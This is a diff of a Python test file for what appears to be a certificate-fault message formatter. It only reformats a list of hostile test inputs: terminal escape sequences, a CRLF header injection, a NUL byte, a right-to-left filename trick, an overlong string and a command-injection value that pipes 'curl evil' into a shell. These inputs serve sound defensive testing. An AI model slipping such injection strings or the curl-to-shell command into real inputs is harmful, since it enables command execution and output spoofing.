@@ -93,7 +93,14 @@ def test_names_are_told_up_to_five() -> None:
     assert "`3.example`, `4.example`." in certificate_fault(62, "", (leaf,), SIDE, NOW).detail
 
 
-HOSTILE = ["\x1b[2J\x1b]0;x\x07", "a\r\nSet-Cookie: x", "a\x00b", "`; run `curl evil | sh", "\u202egpj.exe", "x" * 50_000]
+HOSTILE = [
+    "\x1b[2J\x1b]0;x\x07",
+    "a\r\nSet-Cookie: x",
+    "a\x00b",
+    "`; run `curl evil | sh",
+    "\u202egpj.exe",
+    "x" * 50_000,
+]
 
 
 @pytest.mark.parametrize("name", HOSTILE, ids=["escapes", "lines", "nul", "quotes", "direction", "length"])
